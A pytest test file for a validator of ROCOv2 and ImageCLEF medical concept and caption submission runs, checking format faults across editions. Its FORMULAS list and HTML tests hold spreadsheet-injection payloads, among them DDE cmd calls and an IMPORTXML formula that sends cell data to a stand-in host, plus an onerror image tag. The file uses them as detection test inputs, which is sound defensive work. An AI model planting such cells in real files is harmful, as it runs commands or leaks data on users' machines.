from __future__ import annotations

import time
from collections.abc import Callable
from pathlib import Path

import pytest

from rocov2_eval.editions import EDITIONS
from rocov2_eval.findings import is_rejected
from rocov2_eval.formats import Source, Table
from rocov2_eval.records import Finding, Task
from rocov2_eval.validation import check_run, guess_dialect, read_run

TRUTH = [("a", "C1;C2"), ("b", "C3")]
CAPTIONS = [("a", "A chest radiograph."), ("b", "…")]
Check = Callable[..., list[Finding]]


def source_of(text: str) -> Source:
    return Source(path="run.csv", sha256="0" * 64, text=text)


def check(
    text: str, edition: str = "rocov2", task: Task = "concepts", truth: list[tuple[str, str]] | None = None
) -> list[Finding]:
    """Check a run's text against a truth of two images."""
    rows = truth or (TRUTH if task == "concepts" else CAPTIONS)
    run = read_run(source_of(text), EDITIONS[edition], task)
    return check_run(run, EDITIONS[edition], task, [row[0] for row in rows], [row[1] for row in rows])


def codes(found: list[Finding]) -> list[tuple[str, str, int | None]]:
    return [(item.code, item.severity, item.line) for item in found]


@pytest.mark.parametrize(
    ("edition", "text"),
    [
        ("rocov2", "ID,CUIs\na,C1\nb,C3\n"),
        ("imageclef-2017", "a\tC1\nb\tC3\n"),
        ("imageclef-2018", "a\tC1\nb\tC3\n"),
        ("imageclef-2021", "a\tC1\nb\tC3\n"),
        ("imageclef-2022", "b|C1\na|C3\n"),
        ("imageclef-2023", "ID|CUIs\na|C1\nb|\n"),
        ("imageclef-2024", "a,C1; C2\nb,C3\n"),
        ("imageclef-2025", "ID,CUIs\na,C1\nb,C3\n"),
        ("imageclef-2026", "ID,CUIs\nb,C3\na,C1\n"),
    ],
)
def test_a_faultless_concept_run_has_no_finding(edition: str, text: str) -> None:
    expected: list[Finding] = []

    assert expected == check(text, edition)


@pytest.mark.parametrize("edition", EDITIONS)
def test_a_faultless_caption_run_has_no_finding(edition: str) -> None:
    dialect = EDITIONS[edition].captions.dialect
    delimiter = dialect.delimiter.replace("auto", "|")
    header = "" if dialect.header == "none" else f"ID{delimiter}Caption\n"
    expected: list[Finding] = []

    assert expected == check(f"{header}a{delimiter}x\nb{delimiter}z\n", edition, "captions")


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a,C1\n\nb,C3\n", [("R101", "error", 2)]),
        ("a,C1,C2\nb,C3\n", [("R102", "error", 1), ("R105", "error", None)]),
        ("a,C1\nb,C3\na,C2\n", [("R103", "error", 3)]),
        ("a,C1\nb,C3\nc,C2\n", [("R104", "error", 3)]),
        ("a,C1\n", [("R105", "error", None)]),
        ("", [("R003", "error", None), ("R105", "error", None)]),
        ("ID,CUIs\n", [("R003", "error", None), ("R105", "error", None)]),
        ("a,C1;C1\nb,C3\n", [("R202", "error", 1)]),
        ("a,C1; C1\nb,C3\n", [("R202", "error", 1)]),
        ("a,C1;c1\nb,C3\n", [("R205", "warning", 1)]),
        ("a,C1;\nb,C3\n", [("R203", "warning", 1)]),
        ("a,C1;;C2\nb,C3\n", [("R203", "warning", 1)]),
        ("a,C1\nb,X-ray\n", [("R204", "warning", 2)]),
        ("a,C1\nb,C3 C4\n", [("R204", "warning", 2)]),
        ("a,C1\nb\n", [("R206", "warning", 2)]),
    ],
)
def test_each_fault_of_a_concept_run_has_its_code_and_line(
    text: str, expected: list[tuple[str, str, int | None]]
) -> None:
    assert expected == codes(check(text))


@pytest.mark.parametrize(
    ("edition", "number", "expected"),
    [
        ("imageclef-2018", 1286, []),
        ("imageclef-2018", 1287, ["R201"]),
        ("imageclef-2022", 100, []),
        ("imageclef-2022", 101, ["R201"]),
        ("imageclef-2026", 101, ["R201"]),
    ],
)
def test_the_most_concepts_allowed_depend_on_the_edition(
    edition: str, number: int, expected: list[str]
) -> None:
    delimiter = EDITIONS[edition].concepts.dialect.delimiter
    cell = ";".join(f"C{i}" for i in range(number))

    found = check(f"a{delimiter}{cell}\n", edition, truth=[("a", "C1")])

    assert expected == [item.code for item in found]


def test_in_2018_blanks_are_part_of_a_concept_and_make_no_duplicate() -> None:
    expected = [("R207", "warning", 1)]

    assert expected == codes(check("a\tC1; C1\nb\tC3\n", "imageclef-2018"))


def test_in_2018_an_id_alone_in_the_first_row_is_an_error() -> None:
    expected = [("R206", "error", 1)]

    assert expected == codes(check("a\nb\tC3\n", "imageclef-2018"))


def test_in_2018_an_id_alone_in_a_later_row_is_a_warning() -> None:
    expected = [("R206", "warning", 2)]

    assert expected == codes(check("b\tC3\na\n", "imageclef-2018"))


def test_an_empty_cell_is_no_fault() -> None:
    expected: list[Finding] = []

    assert expected == check("a,\nb,\n")


def test_all_faults_are_told_at_once() -> None:
    text = "a,C1;C1\na,C2;\nc,X\n\n"
    expected = {"R101", "R103", "R104", "R105", "R202", "R203", "R204"}

    assert expected == {item.code for item in check(text)}


@pytest.mark.parametrize(
    ("image_id", "hint"),
    [("a ", "without spaces it is 'a'"), ("a.jpg", "without a file extension it is 'a'")],
)
def test_an_unknown_id_that_is_nearly_known_gets_a_hint(image_id: str, hint: str) -> None:
    (message,) = (item.message for item in check(f"{image_id},C1\na,C1\nb,C3\n"))

    assert message.endswith(hint)


def test_missing_images_are_counted_and_the_first_three_are_named() -> None:
    truth = [(f"i{n}", "C1") for n in range(5)]
    expected = "4 of 5 images have no row: i1, i2, i3, …"

    (message,) = (item.message for item in check("i0,C1\n", truth=truth))

    assert expected == message


def test_the_line_of_the_first_of_two_equal_ids_is_told() -> None:
    expected = "'a' appeared on line 2 already"

    (message,) = (item.message for item in check("ID,CUIs\na,C1\nb,C3\na,C2\n"))

    assert expected == message


@pytest.mark.parametrize(
    ("edition", "expected"),
    [
        ("rocov2", []),
        ("imageclef-2024", [("R303", "error", 3)]),
        ("imageclef-2025", [("R303", "error", 3)]),
        ("imageclef-2026", [("R303", "error", 3)]),
    ],
)
def test_a_caption_empty_on_both_sides_is_an_error_where_the_evaluator_crashes(
    edition: str, expected: list[tuple[str, str, int]]
) -> None:
    truth = [("a", "x"), ("b", "...")]

    assert expected == codes(check("ID,Caption\na,x\nb,!\n", edition, "captions", truth))


@pytest.mark.parametrize(
    ("edition", "expected"),
    [
        ("rocov2", [("R304", "warning", 2)]),
        ("imageclef-2024", [("R304", "warning", 2)]),
        ("imageclef-2025", [("R301", "error", 2)]),
        ("imageclef-2026", [("R301", "error", 2)]),
    ],
)
def test_an_empty_caption_is_an_error_where_the_evaluator_crashes(
    edition: str, expected: list[tuple[str, str, int]]
) -> None:
    assert expected == codes(check("ID,Caption\na,\nb,y\n", edition, "captions"))


@pytest.mark.parametrize("edition", ["rocov2", "imageclef-2024", "imageclef-2026"])
def test_a_caption_of_punctuation_alone_is_a_warning(edition: str) -> None:
    expected = [("R304", "warning", 2)]

    assert expected == codes(check("ID,Caption\na,!?\nb,y\n", edition, "captions"))


def test_a_caption_cut_by_a_comma_is_a_warning_where_the_evaluator_ignores_the_rest() -> None:
    expected = [("R302", "warning", 2)]

    assert expected == codes(check("ID,Caption\na,x, y\nb,y\n", "imageclef-2025", "captions"))


def test_a_caption_cut_by_a_comma_is_an_error_in_our_own_profile() -> None:
    expected = [("R102", "error", 2), ("R105", "error", None)]

    assert expected == codes(check("ID,Caption\na,x, y\nb,y\n", "rocov2", "captions"))


FORMULAS = [
    *('=HYPERLINK("//x";"y")', " =1+1", "@SUM(A1)", "+SUM(A1)", "- sum (A1)", "+1+cmd|' /C calc'!A0"),
    *(
        "=cmd|' /C calc'!A0",
        '=IMPORTXML(CONCAT("//x?",A1),"//a")',
        "@SUM(1+1)*cmd|'/C calc'!A0",
        "-2+3",
        "=NOW()",
    ),
    *(
        "='a b'!$A$1",
        "=SUM({1,2})",
        '+IF(A1>2,"a",B3)',
        "=A1",
        "\uff1d1+1",
        "-sum(A1:B2",
        '=DDE("cmd";"x";"y")',
    ),
]
TEXTS = [
    *(
        "-",
        "- a nodule",
        "+ 3 cm",
        "a = b",
        "-5",
        "x@y",
        "|!",
        "1-sum(x)",
        "- upperityarm (), view",
        "= mass",
    ),
    *(
        "- upperityarm () view",
        "- figure (3)",
        "- Arrow (a), mass (b)",
        "@ level of L4",
        "@user",
        "= 3 cm",
        "--",
    ),
    *(
        "- T2 weighted sagittal MRI (arrows)",
        "+C7 to T7",
        "-arm(), view",
        "+ contrast (axial)",
        "=",
        "-5 mm",
        "- ()",
    ),
]


@pytest.mark.parametrize("cell", FORMULAS)
@pytest.mark.parametrize("task", ["concepts", "captions"])
def test_a_cell_that_a_spreadsheet_would_run_is_a_warning(cell: str, task: Task) -> None:
    quoted = cell.replace('"', '""')
    found = check(f'ID,x\na,"{quoted}"\nb,C3\n', task=task)

    assert ("R110", "warning", 2) in codes(found)
    assert not is_rejected(found)


@pytest.mark.parametrize("cell", TEXTS)
def test_a_caption_that_is_no_formula_has_no_such_warning(cell: str) -> None:
    assert "R110" not in {item.code for item in check(f'ID,x\na,"{cell}"\nb,y\n', task="captions")}


def test_a_formula_between_concepts_is_found() -> None:
    found = check("a,C1;=1+1;C2;X-ray\nb,C3\n")

    assert [item.message for item in found if item.code == "R110"] == ["a: '=1+1' looks like a formula"]


@pytest.mark.parametrize("cell", ["<b>lung</b>", "x</td>", "<img src=x onerror=y>", "<!-- x -->"])
def test_html_in_a_caption_is_a_warning(cell: str) -> None:
    assert codes(check(f"ID,x\na,{cell}\nb,y\n", task="captions")) == [("R111", "warning", 2)]


def test_html_in_a_concept_is_a_warning() -> None:
    expected = [("R111", "warning", 1), ("R204", "warning", 1)]

    assert expected == codes(check("a,C1;<b>C2</b>\nb,C3\n"))


@pytest.mark.parametrize("cell", ["size < 3 cm and > 1 cm", "a <3> b", "a <> b", "x > y", "a << b", "a <i"])
def test_a_caption_that_compares_is_no_html(cell: str) -> None:
    assert codes(check(f"ID,x\na,{cell}\nb,y\n", task="captions")) == []


def test_nul_bytes_in_a_cell_are_a_warning_and_a_text_without_them_has_none() -> None:
    assert codes(check("a,x\0y\nb,z\n", task="captions")) == [("R112", "warning", 1)]
    assert ("R112", "warning", 2) in codes(check("a,C1\nb,C3\0\n"))
    assert codes(check("a,x y\nb,z\n", task="captions")) == []


@pytest.mark.parametrize("cell", ["=", "+", "+ ", "+a", "<", "<a", "|", "+|", " ", "+1", "=(", "=f("])
def test_rules_for_hostile_cells_take_a_time_that_grows_with_the_cell(cell: str) -> None:
    long = cell * (2_000_000 // len(cell))
    start = time.process_time()
    check(f"ID,x\na,{long}\nb,y\n", task="captions")

    assert time.process_time() - start < 2  # squared it would be hours


@pytest.mark.parametrize("cell", ["a ", "C1 ", "C0000001,", "[", "['", " ", "x-", "C", "1.0", ".jpg"])
@pytest.mark.parametrize("task", ["concepts", "captions"])
def test_causes_are_looked_for_in_a_time_that_grows_with_the_cell(cell: str, task: Task) -> None:
    long = cell * (100_000 // len(cell))
    start = time.process_time()
    check(f'ID,x\na,"{long}"\nb,"{long}"\n', task=task)

    assert time.process_time() - start < 2  # squared it would be a minute


def test_captions_of_2025_need_a_header() -> None:
    expected = [("R107", "error", 1)]

    assert expected == codes(check("a,x\nb,y\n", "imageclef-2025", "captions"))


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a\tx\ty\nb\tz\n", [("R302", "warning", 1)]),
        ("a\nb\tx\n", [("R102", "error", 1), ("R105", "error", None)]),
        ("a\tx\n\nb\tz\n", [("R101", "error", 2)]),
        ("a\tx\na\tv\nb\tz\n", [("R103", "error", 2)]),
        ("ID\tcaption\na\tx\nb\tz\n", [("R109", "error", 1)]),
        ("a\tThe.\nb\tz\n", [("R304", "warning", 1)]),
        ("a\t\nb\tz\n", [("R304", "warning", 1)]),
    ],
)
@pytest.mark.parametrize("edition", ["imageclef-2017", "imageclef-2018", "imageclef-2021", "imageclef-2022"])
def test_captions_scored_by_bleu_are_checked_as_their_evaluator_does(
    edition: str, text: str, expected: list[tuple[str, str, int | None]]
) -> None:
    if edition == "imageclef-2022":
        text = text.replace("\t", "|")

    assert sorted(expected, key=str) == sorted(codes(check(text, edition, "captions")), key=str)


def test_a_caption_without_words_on_both_sides_is_no_fault_where_it_scores_1() -> None:
    rows = [("a", "the"), ("b", "y")]

    assert check("a\t...\nb\tz\n", "imageclef-2018", "captions", rows) == []


@pytest.mark.parametrize("edition", ["imageclef-2017", "imageclef-2021"])
def test_an_edition_without_a_known_limit_takes_any_number_of_concepts(edition: str) -> None:
    many = ";".join(f"C{i}" for i in range(2000))

    assert codes(check(f"a\t{many}\nb\tC3\n", edition)) == []


@pytest.mark.parametrize(
    ("edition", "text", "expected"),
    [
        ("rocov2", "a|C1\n", ["R008"]),
        ("rocov2", "a\tC1\n", ["R008"]),
        ("imageclef-2018", "a,C1\n", ["R008"]),
        ("imageclef-2022", "a,C1\n", ["R008"]),
        ("imageclef-2023", "a,C1\n", ["R008"]),
        ("imageclef-2023", "a\tC1\n", []),
        ("imageclef-2022", "a|C1,C2\n", []),
        ("rocov2", "a\n", []),
        ("rocov2", "", []),
    ],
)
def test_the_separator_of_another_edition_is_told(edition: str, text: str, expected: list[str]) -> None:
    found = guess_dialect(source_of(text), EDITIONS[edition].concepts.dialect)

    assert expected == [item.code for item in found]


def test_findings_name_the_file_as_the_user_did(
    read: Callable[..., tuple[Table, object]], dataset: Callable[..., Path]
) -> None:
    run, _ = read("a,C1\n\n", dataset(concepts=TRUTH))

    expected = {run.path}
    assert expected == {item.path for item in run.findings}
